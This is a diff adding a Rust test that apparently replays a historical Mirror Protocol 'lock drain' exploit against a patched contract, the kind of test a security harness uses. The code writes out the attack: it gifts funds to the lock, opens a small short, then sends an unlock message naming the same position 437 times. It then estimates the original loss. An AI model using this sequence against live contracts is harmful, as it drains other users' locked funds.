@@ -1,0 +1,124 @@
+//! One lock paid many times over.
+
+use cosmwasm_std::{Addr, Decimal, Int128, Uint128};
+use mirror_protocol::lock::{ExecuteMsg, Lock};
+use mirror_protocol::mint;
+use mirror_testing::{number, percent, World};
+use terraswap::asset::AssetInfo;
+
+use super::super::bundle::{base, Bundle};
+use super::super::scenes::{self, MILLION, UNIT};
+use super::super::stage::Stage;
+use super::super::told::{Exposure, Findings};
+use super::super::Attack;
+use crate::amounts::coins;
+
+pub(super) const ATTACK: Attack = Attack {
+    name: "lock drain",
+    story:
+        "October 2021 to May 2022, about 90 million dollars: a gift to the lock became the lock \
+            of a short for 10 coins, and one message named that short 437 times.",
+    run,
+};
+
+const GIFT: u128 = 100_000 * UNIT;
+const COLLATERAL: u128 = 10 * UNIT;
+/// How often the attacker named the same position.
+const TIMES: usize = 437;
+/// What the lock takes in one message.
+const MOST: usize = 100;
+const LOCKUP: u64 = 1_209_600;
+
+fn run() -> anyhow::Result<Findings> {
+    let mut stage = prepared()?;
+    let (lock, at_stake) = (
+        stage.world.at.lock.clone(),
+        stage.world.base_balance(&stage.world.at.lock),
+    );
+
+    stage.does(Bundle::new().gives(base(GIFT), &lock))?;
+    let given = stage.world.base_balance(&lock);
+    let idx = shorts(&mut stage)?;
+    let sold_for = stage.world.base_balance(&lock) - given;
+    let querier = stage.world.chain.app.wrap();
+    let locked = Lock(lock.clone()).position_lock_info(&querier, idx)?;
+    let locked = locked.locked_amount;
+    if locked == sold_for {
+        let seen = format!(
+            "the short locks the {} coins that its sale was paid, not the gift",
+            coins(locked)
+        );
+        stage.saw("T-32", seen);
+    }
+
+    stage.world.chain.pass(LOCKUP);
+    stage.tries("T-35", unlocks(&lock, idx, TIMES))?;
+    stage.tries("T-31", unlocks(&lock, idx, MOST))?;
+    let twice = unlocks(&lock, idx, 1);
+    stage.tries("T-31", and(twice, unlocks(&lock, idx, 1)))?;
+    let querier = stage.world.chain.app.wrap();
+    // Unless a broken rule has paid it already.
+    let rest = Lock(lock.clone()).position_lock_info(&querier, idx);
+    if rest.is_ok() {
+        stage.does(unlocks(&lock, idx, 1))?;
+    }
+
+    let attempt = stage.ends(format!(
+        "gave the lock 100,000 coins, opened a short for 10, waited two weeks, named it {TIMES} \
+         times, then {MOST} times, then in two messages of a transaction"
+    ))?;
+    let exposure = as_it_was(sold_for, at_stake)?;
+    Ok(Findings {
+        attempts: vec![attempt],
+        exposures: vec![exposure],
+    })
+}
+
+/// The lock holds the proceeds of others, enough to pay for all that was taken.
+fn prepared() -> anyhow::Result<Stage> {
+    let mut world = World::new().with_asset("mAAPL", "10");
+    scenes::pool(&mut world, "mAAPL", 400 * MILLION);
+    world.carol().shorts(100 * MILLION, "mAAPL", percent(200));
+    Stage::new(world, &[("mAAPL", scenes::price("10")?)])
+}
+
+fn shorts(stage: &mut Stage) -> anyhow::Result<Uint128> {
+    let open = mint::ExecuteMsg::OpenPosition {
+        collateral: base(COLLATERAL),
+        asset_info: AssetInfo::token(stage.world.token("mAAPL")),
+        collateral_ratio: Decimal::percent(200),
+        short_params: Some(mint::ShortParams {
+            belief_price: None,
+            max_spread: None,
+        }),
+    };
+    let mint = stage.world.at.mint.clone();
+    let answers = stage.does(Bundle::new().pays(&mint, &open, base(COLLATERAL)))?;
+    let answer = answers.first().ok_or(anyhow::anyhow!("no answer"))?;
+    Ok(number(answer))
+}
+
+fn unlocks(lock: &Addr, idx: Uint128, times: usize) -> Bundle {
+    let positions_idx = vec![idx; times];
+    Bundle::new().tells(lock, &ExecuteMsg::UnlockPositionFunds { positions_idx })
+}
+
+fn and(mut first: Bundle, second: Bundle) -> Bundle {
+    first.messages.extend(second.messages);
+    first
+}
+
+/// The rules of the original on the same figures: whatever the lock held above its sum became the
+/// next lock, and every copy in the list was paid while the coins of others lasted.
+fn as_it_was(sold_for: Uint128, of_others: Uint128) -> anyhow::Result<Exposure> {
+    let record = u128::from(sold_for) + GIFT;
+    let paid = (record * TIMES as u128).min(of_others.u128() + record);
+    let gained = i128::try_from(paid)? - i128::try_from(GIFT + COLLATERAL)?;
+    Ok(Exposure::computed(
+        format!(
+            "the lock of the original: everything above its sum becomes the next lock, and \
+             {TIMES} copies are {TIMES} payments"
+        ),
+        Int128::new(gained),
+    ))
+}
